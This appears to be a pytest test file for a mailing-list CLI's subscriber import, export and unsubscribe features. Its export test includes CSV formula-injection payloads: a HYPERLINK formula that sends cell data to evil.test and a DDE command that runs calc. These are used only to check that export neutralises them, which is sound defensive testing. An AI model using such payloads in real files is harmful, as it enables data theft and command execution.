"""Lists and subscribers: CSV import (encodings, bad rows, re-import), listing, export, removal, unsubscribe."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest

from mailer.errors import MailerError
from mailer.models import Subscriber, SubscriberStatus
from mailer.store import Store
from mailer.subscriptions import add_subscriber, create_list, export_csv, import_csv, subscribers
from tests.conftest import SAMPLE_CSV

CHINESE = [
    ("wang@example.org", "王小明", "北京"),
    ("li@example.com", "李静", "临江"),
    ("gu@example.net", "顾清远", "龍泉"),
]


def write_csv(path: Path, rows: list[tuple[str, ...]], encoding: str = "utf-8") -> Path:
    text = "".join(",".join(row) + "\r\n" for row in [("email", "name", "city"), *rows])
    path.write_bytes(text.encode(encoding))
    return path


def listed(run_cli, *extra: str) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    result = run_cli("subs", "ls", "--list", "bulletin", "--json", *extra)
    assert result.returncode == 0, result.stderr
    return {row["email"]: row for row in json.loads(result.stdout)}


def on_list(store: Store, status: str | None = None) -> dict[str, Subscriber]:
    """What the database holds now (the CLI wrote it from another process)."""
    return {s.email: s for s in subscribers(store, "bulletin", status)}


def assert_one_error_line(stderr: str) -> None:
    lines = stderr.strip().splitlines()
    assert len(lines) == 1, stderr
    assert lines[0].startswith("error: "), stderr
    assert "Traceback" not in stderr


def test_import_the_sample_csv(store: Store, run_cli) -> None:
    result = run_cli("subs", "import", str(SAMPLE_CSV), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert "20 added" in result.stdout
    rows = listed(run_cli)
    assert len(rows) == 20
    assert rows["wang.xiaoming@example.org"]["name"] == "王小明"
    assert rows["wang.xiaoming@example.org"]["status"] == "active"
    assert rows["wang.xiaoming@example.org"]["attrs"] == {"organisation": "星河知识产权运营服务中心", "city": "北京"}


def test_utf8_with_bom(store: Store, tmp_path: Path, run_cli) -> None:
    path = write_csv(tmp_path / "bom.csv", CHINESE, encoding="utf-8-sig")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")

    result = run_cli("subs", "import", str(path), "--list", "bulletin")

    assert result.returncode == 0, result.stderr
    rows = on_list(store)
    assert {e: r.name for e, r in rows.items()} == {e: n for e, n, _ in CHINESE}
    assert rows["gu@example.net"].attrs == {"city": "龍泉"}


def test_gb18030_file_keeps_chinese_names(store: Store, tmp_path: Path, run_cli) -> None:
    path = write_csv(tmp_path / "gbk.csv", CHINESE, encoding="gb18030")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")

    result = run_cli("subs", "import", str(path), "--list", "bulletin")

    assert result.returncode == 0, result.stderr
    assert "3 added" in result.stdout
    rows = on_list(store)
    assert {e: (r.name, r.attrs["city"]) for e, r in rows.items()} == {e: (n, c) for e, n, c in CHINESE}


def test_bad_rows_are_reported_by_line_and_good_rows_import(store: Store, tmp_path: Path, run_cli) -> None:
    path = tmp_path / "mixed.csv"
    path.write_text(
        "email,name,city\n"  # line 1
        "good.one@Example.ORG,张三,北京\n"  # 2
        "bob@,Bob,x\n"  # 3: not an address
        ",Nobody,x\n"  # 4: empty email
        "short@example.org,Short\n"  # 5: two fields, the header has three
        "\n"  # 6: blank, ignored
        "good.one@example.org,Again,y\n"  # 7: duplicate of line 2 once the domain is lowercased
        'two@example.org,"李, 四","多\n行"\n'  # 8-9: one record over two lines
        "bad address@example.org,X,y\n"  # 10
        "three@example.org,王五,z\n",  # 11
        encoding="utf-8",
    )

    result = run_cli("subs", "import", str(path), "--list", "bulletin")

    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    problems = result.stderr.strip().splitlines()
    assert len(problems) == 5, result.stderr
    assert all(line.startswith(f"{path} line ") for line in problems)
    numbers = [int(line.split(" line ")[1].split(":")[0]) for line in problems]
    assert numbers == [3, 4, 5, 7, 10]
    assert "'bob@'" in problems[0]
    assert "empty" in problems[1]
    assert "2 fields" in problems[2]
    assert "line 2" in problems[3]
    assert "3 added" in result.stdout
    assert "5 rejected" in result.stdout
    rows = on_list(store)
    assert set(rows) == {"good.one@example.org", "two@example.org", "three@example.org"}
    assert rows["good.one@example.org"].name == "张三"  # the first row wins, the duplicate is skipped
    assert rows["two@example.org"].name == "李, 四"


def test_import_service_returns_problems_and_counts(store: Store, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "s.csv", [("a@Example.COM", "A", "x"), ("bob@", "B", "y"), ("b@example.com", "B", "z")])
    result = import_csv(store, "bulletin", path)
    assert (result.added, result.updated, result.kept) == (2, 0, 0)
    assert [(p.line, str(p).startswith("line 3: ")) for p in result.problems] == [(3, True)]
    assert sorted(s.email for s in subscribers(store, "bulletin")) == ["a@example.com", "b@example.com"]


def test_reimport_updates_and_never_duplicates(store: Store, tmp_path: Path, run_cli) -> None:
    first = write_csv(tmp_path / "one.csv", CHINESE)
    assert run_cli("subs", "import", str(first), "--list", "bulletin").returncode == 0

    again = run_cli("subs", "import", str(first), "--list", "bulletin")
    assert again.returncode == 0, again.stderr
    assert "0 added, 3 updated" in again.stdout
    assert len(on_list(store)) == 3

    renamed = write_csv(
        tmp_path / "two.csv", [("wang@EXAMPLE.org", "王晓明", "上海"), ("new@example.org", "新人", "x")]
    )
    result = run_cli("subs", "import", str(renamed), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert "1 added, 1 updated" in result.stdout
    rows = on_list(store)
    assert len(rows) == 4
    assert rows["wang@example.org"].name == "王晓明"
    assert rows["wang@example.org"].attrs == {"city": "上海"}


def test_reimport_never_resubscribes(store: Store, tmp_path: Path, run_cli) -> None:
    path = write_csv(tmp_path / "list.csv", CHINESE)
    assert run_cli("subs", "import", str(path), "--list", "bulletin").returncode == 0
    gone = run_cli("unsubscribe", "li@example.com", "--list", "bulletin")
    assert gone.returncode == 0, gone.stderr
    assert "li@example.com unsubscribed" in gone.stdout

    result = run_cli("subs", "import", str(path), "--list", "bulletin")

    assert result.returncode == 0, result.stderr
    assert "1 kept" in result.stdout
    assert on_list(store)["li@example.com"].status == "unsubscribed"
    assert set(on_list(store, "active")) == {"wang@example.org", "gu@example.net"}
    assert run_cli("subs", "add", "li@example.com", "--list", "bulletin").returncode == 0
    assert on_list(store)["li@example.com"].status == "unsubscribed"


def test_unsubscribe_by_hand_is_recorded_and_idempotent(store: Store, tmp_path: Path, run_cli) -> None:
    add_subscriber(store, "bulletin", "wang@example.org", "王小明")

    assert run_cli("unsubscribe", "wang@example.org", "--list", "bulletin").returncode == 0
    again = run_cli("unsubscribe", "wang@example.org", "--list", "bulletin")

    assert again.returncode == 0, again.stderr
    assert "already unsubscribed" in again.stdout
    with sqlite3.connect(tmp_path / "mailer.db") as conn:
        events = conn.execute(
            "SELECT u.source FROM unsubscribes u JOIN subscribers s ON s.id = u.subscriber_id WHERE s.email = ?",
            ("wang@example.org",),
        ).fetchall()
    assert events == [("ops",)]
    unknown = run_cli("unsubscribe", "nobody@example.org", "--list", "bulletin")
    assert unknown.returncode == 1
    assert_one_error_line(unknown.stderr)


def test_subs_add_rejects_a_bad_address(store: Store, run_cli) -> None:
    result = run_cli("subs", "add", "bob@", "--list", "bulletin")
    assert result.returncode == 1
    assert_one_error_line(result.stderr)
    assert "bob@" in result.stderr
    assert on_list(store) == {}


def test_subs_ls_json_and_status_filter(store: Store, tmp_path: Path, run_cli) -> None:
    import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
    store.subscribers.unsubscribe(on_list(store)["gu@example.net"].id, "test")

    rows = listed(run_cli)
    assert all({"email", "name", "status"} <= set(row) for row in rows.values())
    assert {e: r["status"] for e, r in rows.items()} == {
        "wang@example.org": "active",
        "li@example.com": "active",
        "gu@example.net": "unsubscribed",
    }
    assert set(listed(run_cli, "--status", "unsubscribed")) == {"gu@example.net"}
    bad = run_cli("subs", "ls", "--list", "bulletin", "--status", "nonsense")
    assert bad.returncode in (1, 2)
    assert_one_error_line(bad.stderr)


def test_names_are_shown_as_written_never_as_markup(store: Store, run_cli) -> None:
    # Anyone can type a name into the sign-up form; rich would read "[/]" as a closing tag and crash the table.
    store.subscribers.upsert(
        store.lists.get("bulletin").id,
        [
            Subscriber(email="mark@example.org", name="[/]Mark [bold]Up[link=https://evil.test]x"),
        ],
        "test",
    )
    result = run_cli("subs", "ls", "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert "[/]Mark [bold]Up[link=https://evil.test]x" in result.stdout


def test_subs_export_to_a_file(store: Store, tmp_path: Path, run_cli) -> None:
    import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
    target = tmp_path / "export.csv"

    result = run_cli("subs", "export", "--list", "bulletin", "-o", str(target))

    assert result.returncode == 0, result.stderr
    assert result.stdout == ""
    table = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert [(r["email"], r["name"], r["status"], r["city"]) for r in table] == [
        (e, n, "active", c) for e, n, c in CHINESE
    ]
    to_stdout = run_cli("subs", "export", "--list", "bulletin")
    assert to_stdout.stdout == target.read_text(encoding="utf-8")


def test_export_work_grows_with_the_list_not_with_its_square(store: Store) -> None:
    # Each chunk of 500 re-sorted the whole list (100,000 subscribers: 4.3 s, growing with the square). Counted in
    # SQLite's virtual-machine steps rather than seconds, so a loaded machine cannot make it pass or fail.
    mailing_list = store.lists.get("bulletin")

    def steps_to_export(total: int) -> int:
        have = sum(1 for _ in subscribers(store, "bulletin"))
        store.subscribers.upsert(
            mailing_list.id,
            [Subscriber(email=f"s{n}@example.org", name=f"S {n}", attrs={"city": "X"}) for n in range(have, total)],
            "t",
        )
        steps = [0]

        def count() -> int:
            steps[0] += 1
            return 0

        store.conn.set_progress_handler(count, 100)
        try:
            rows = "".join(export_csv(store, "bulletin")).count("\n")
        finally:
            store.conn.set_progress_handler(None, 100)
        assert rows == total + 1
        return steps[0]

    small, large = steps_to_export(3000), steps_to_export(12000)
    assert large < 6 * small, (small, large)
    print(small, large)  # 4x the rows: about 4x the work (it was about 16x)


def test_subs_remove(store: Store, tmp_path: Path, run_cli) -> None:
    import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))

    result = run_cli("subs", "remove", "li@example.com", "--list", "bulletin")

    assert result.returncode == 0, result.stderr
    assert set(on_list(store)) == {"wang@example.org", "gu@example.net"}
    again = run_cli("subs", "remove", "li@example.com", "--list", "bulletin")
    assert again.returncode == 1
    assert_one_error_line(again.stderr)


def test_removing_someone_in_a_delivery_log_keeps_them_as_unsubscribed(store: Store, tmp_path: Path) -> None:
    import_csv(store, "bulletin", write_csv(tmp_path / "l.csv", CHINESE))
    list_id = store.lists.get("bulletin").id
    store.campaigns.create(list_id, "n1", "第1期", "n1.md", "hash", {}, "salt")

    store.subscribers.remove(list_id, "wang@example.org")

    assert store.subscribers.get(list_id, "wang@example.org").status == SubscriberStatus.UNSUBSCRIBED
    kept = store.conn.execute("SELECT COUNT(*) FROM deliveries WHERE email = 'wang@example.org'").fetchone()[0]
    assert kept == 1


def test_lists_create_and_ls(store: Store, run_cli) -> None:
    created = run_cli(
        "lists", "create", "weekly", "--title", "Weekly", "--from", "Weekly <weekly@example.org>", "--lang", "en"
    )
    assert created.returncode == 0, created.stderr
    listing = run_cli("lists", "ls", "--json")
    assert listing.returncode == 0, listing.stderr
    assert {r["name"]: r["lang"] for r in json.loads(listing.stdout)} == {"bulletin": "zh", "weekly": "en"}


def test_lists_create_duplicate_is_an_error(store: Store, run_cli) -> None:
    result = run_cli("lists", "create", "bulletin")
    assert result.returncode == 1
    assert_one_error_line(result.stderr)
    assert "bulletin" in result.stderr
    assert "already exists" in result.stderr


@pytest.mark.parametrize("args", [["--lang", "fr"], ["--from", "not an address"]])
def test_lists_create_bad_option(store: Store, run_cli, args: list[str]) -> None:
    result = run_cli("lists", "create", "weekly", *args)
    assert result.returncode in (1, 2), result.stdout + result.stderr
    assert_one_error_line(result.stderr)
    assert "weekly" not in {r["name"] for r in json.loads(run_cli("lists", "ls", "--json").stdout)}


def test_create_list_service_rejects_bad_names(store: Store) -> None:
    for name in ("", "has space", "简报"):
        with pytest.raises(MailerError):
            create_list(store, name, "", "", "", "zh")


def test_import_to_a_missing_list_or_file(store: Store, tmp_path: Path, run_cli) -> None:
    path = write_csv(tmp_path / "l.csv", CHINESE)
    no_list = run_cli("subs", "import", str(path), "--list", "nope")
    assert no_list.returncode == 1
    assert_one_error_line(no_list.stderr)
    assert "nope" in no_list.stderr
    no_file = run_cli("subs", "import", str(tmp_path / "missing.csv"), "--list", "bulletin")
    assert no_file.returncode == 1
    assert_one_error_line(no_file.stderr)
    assert "missing.csv" in no_file.stderr
    no_header = tmp_path / "noheader.csv"
    no_header.write_text("name,city\nA,B\n", encoding="utf-8")
    result = run_cli("subs", "import", str(no_header), "--list", "bulletin")
    assert result.returncode == 1
    assert_one_error_line(result.stderr)
    assert "email" in result.stderr


FORMULAS = [
    '=HYPERLINK("http://evil.test/?d="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_export_neutralises_spreadsheet_formulas_and_reimports_the_same(store: Store, tmp_path: Path, run_cli) -> None:  # type: ignore[no-untyped-def]
    list_id = store.lists.get("bulletin").id
    people = [Subscriber(email=f"p{i}@example.org", name=f, attrs={"note": f}) for i, f in enumerate(FORMULAS)]
    people.append(Subscriber(email="=1+2@example.org", name="plain", attrs={"note": "a=b"}))  # '=' is atext
    store.subscribers.upsert(list_id, people, "test")
    target = tmp_path / "export.csv"
    assert run_cli("subs", "export", "--list", "bulletin", "-o", str(target)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    for row in rows:
        for column in ("email", "name", "note"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0]["name"] == "'" + FORMULAS[0] and rows[-1]["email"] == "'=1+2@example.org"
    assert rows[-1]["note"] == "a=b"
    # Imported again (into another list), the file gives back the same people.
    create_list(store, "copy", "", "", "", "en")
    assert run_cli("subs", "import", str(target), "--list", "copy").returncode == 0
    copied = {s.email: s for s in subscribers(store, "copy")}
    assert sorted(copied) == sorted(p.email for p in people)
    assert copied["p0@example.org"].name == FORMULAS[0] and copied["=1+2@example.org"].attrs["note"] == "a=b"


# ---- what arrives as a CSV: encodings, quotes, delimiters ---------------------------------------------------------


def assert_refused(store: Store, result, file: Path) -> str:  # type: ignore[no-untyped-def]
    assert result.returncode == 1, result.stdout
    assert_one_error_line(result.stderr)
    assert str(file) in result.stderr and "\x00" not in result.stderr
    assert on_list(store) == {}
    return str(result.stderr)


@pytest.mark.parametrize(
    ("encoding", "names", "looks"),
    [
        ("big5", ["張三", "李四"], "BIG5"),
        ("latin-1", ["José Müller", "Zoë"], ""),
        ("shift_jis", ["山田太郎", "佐藤花子"], ""),
    ],
)
def test_a_csv_in_another_encoding_is_refused_not_garbled(
    store: Store, tmp_path: Path, run_cli, encoding: str, names: list[str], looks: str
) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / f"{encoding}.csv"
    path.write_bytes(
        ("email,name\r\n" + "".join(f"p{i}@example.org,{n}\r\n" for i, n in enumerate(names))).encode(encoding)
    )
    stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
    assert "not UTF-8 or GB18030" in stderr and "iconv -f" in stderr and looks in stderr


def test_a_single_byte_file_shows_how_each_likely_encoding_reads_it(store: Store, tmp_path: Path, run_cli) -> None:
    # "it looks like CP775" and its iconv command turned Latin-1 "François Müller" into "Franńois M³ller"
    path = tmp_path / "latin.csv"
    path.write_bytes("email,name\r\nf@example.org,François Müller\r\n".encode("latin-1"))
    stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
    assert "line 2 reads " in stderr and ",François Müller' in CP" in stderr, stderr  # the right reading, named
    assert stderr.count("' in CP") >= 2 and "with the one that reads right, e.g.: iconv -f CP" in stderr


def test_a_utf8_file_with_one_row_in_another_encoding_reports_that_row(store: Store, tmp_path: Path, run_cli) -> None:
    # The whole file was refused with "iconv -f ENCODING": converting it would have garbled every UTF-8 name
    path = tmp_path / "mixed.csv"
    path.write_bytes(
        ("email,name\n" + "".join(f"u{i}@example.org,王小明{i}\n" for i in range(6))).encode("utf-8")
        + "jose@example.org,José\n".encode("latin-1")
        + "last@example.org,李静\n".encode()
    )
    result = run_cli("subs", "import", str(path), "--list", "bulletin")
    assert result.returncode == 1
    assert f"{path} line 8: not UTF-8, though the rest of the file is" in result.stderr
    assert "iconv" not in result.stderr and "\udce9" not in result.stderr
    names = {e: r.name for e, r in on_list(store).items()}
    assert len(names) == 7 and names["last@example.org"] == "李静" and "jose@example.org" not in names


def test_a_short_gbk_file_is_still_read_as_gb18030(store: Store, tmp_path: Path, run_cli) -> None:
    # Two Chinese characters read as Korean too; GB18030 is the one we accept, so it wins the tie.
    path = tmp_path / "short.csv"
    path.write_bytes("email,name\r\nzhang@example.org,张三\r\n".encode("gbk"))
    result = run_cli("subs", "import", str(path), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert "GB18030" in result.stderr
    assert on_list(store)["zhang@example.org"].name == "张三"


def test_utf16_with_a_bom_imports_and_without_one_is_named(store: Store, tmp_path: Path, run_cli) -> None:
    bare = tmp_path / "bare.csv"
    bare.write_bytes("email,name\r\nzhang@example.org,张三\r\n".encode("utf-16-le"))
    stderr = assert_refused(store, run_cli("subs", "import", str(bare), "--list", "bulletin"), bare)
    assert "UTF-16LE without a byte-order mark" in stderr and "iconv -f UTF-16LE" in stderr
    marked = write_csv(tmp_path / "marked.csv", CHINESE, encoding="utf-16")
    result = run_cli("subs", "import", str(marked), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert {e: r.name for e, r in on_list(store).items()} == {e: n for e, n, _ in CHINESE}


def test_an_unclosed_quote_is_reported_by_line(store: Store, tmp_path: Path, run_cli) -> None:
    path = tmp_path / "quote.csv"
    path.write_text(
        "email,name\n"  # 1
        "one@example.org,One\n"  # 2
        'two@example.org,"Two\n'  # 3: the quote is never closed
        "three@example.org,Three\n"  # 4
        "four@example.org,Four\n",  # 5
        encoding="utf-8",
    )
    result = run_cli("subs", "import", str(path), "--list", "bulletin")
    assert result.returncode == 1
    assert f"{path} line 3: a quoted field is not closed, so lines 3-5 were read as one row" in result.stderr
    assert set(on_list(store)) == {"one@example.org"}
    # A postal address may span lines in a quoted field: that is not a problem.
    path.write_text('email,name,address\nfive@example.org,Five,"1 Main St\nSpringfield"\n', encoding="utf-8")
    assert run_cli("subs", "import", str(path), "--list", "bulletin").returncode == 0
    assert on_list(store)["five@example.org"].attrs == {"address": "1 Main St\nSpringfield"}


def test_a_closed_quote_with_a_line_break_in_a_name_is_not_called_unclosed(
    store: Store, tmp_path: Path, run_cli
) -> None:
    # "a quoted field is not closed" was said of a name typed with Alt+Enter, whose quotes are closed
    path = tmp_path / "names.csv"
    path.write_text('email,name\none@example.org,"Ann\r\nLee"\ntwo@example.org,Two\n', encoding="utf-8")
    result = run_cli("subs", "import", str(path), "--list", "bulletin")
    assert result.returncode == 1
    assert (
        f"{path} line 2: the name runs over lines 2-3 (a line break inside its quotes, or a quote never "
        "closed); put it on one line (this row is skipped)"
    ) in result.stderr
    assert "not closed, so" not in result.stderr and set(on_list(store)) == {"two@example.org"}


@pytest.mark.parametrize(("delimiter", "says"), [(";", "semicolon-separated"), ("\t", "tab-separated")])
def test_semicolon_and_tab_separated_files_import(
    store: Store, tmp_path: Path, run_cli, delimiter: str, says: str
) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "excel.csv"
    path.write_text(
        "".join(delimiter.join(row) + "\r\n" for row in [("Email", "Name", "city"), *CHINESE]), encoding="utf-8"
    )
    result = run_cli("subs", "import", str(path), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert says in result.stderr and "3 added" in result.stdout
    assert {e: (r.name, r.attrs) for e, r in on_list(store).items()} == {e: (n, {"city": c}) for e, n, c in CHINESE}


def test_a_header_without_email_says_how_it_looks_separated(store: Store, tmp_path: Path, run_cli) -> None:
    path = tmp_path / "mail.csv"
    path.write_text("mail;name\r\nzhang@example.org;张三\r\n", encoding="utf-8")
    stderr = assert_refused(store, run_cli("subs", "import", str(path), "--list", "bulletin"), path)
    assert "no 'email' column" in stderr and "looks semicolon-separated" in stderr


def test_suppressed_addresses_import_as_suppressed_not_added(store: Store, tmp_path: Path, run_cli) -> None:
    store.suppressions.suppress_address("li@example.com", "bounced", "5.1.1 user unknown")
    store.suppressions.suppress_address("gu@example.net", "complained")
    result = run_cli("subs", "import", str(write_csv(tmp_path / "l.csv", CHINESE)), "--list", "bulletin")
    assert result.returncode == 0, result.stderr
    assert "1 added" in result.stdout and "2 suppressed" in result.stdout
    rows = listed(run_cli)
    assert {e: (r["status"], r["suppressed"]) for e, r in rows.items()} == {
        "wang@example.org": ("active", None),
        "li@example.com": ("bounced", "bounced"),
        "gu@example.net": ("unsubscribed", "complained"),
    }
    assert store.subscribers.count_recipients(store.lists.get("bulletin").id) == 1
    table = run_cli("subs", "ls", "--list", "bulletin").stdout
    assert re.search(r"li@example\.com.*bounced.*bounced", table)
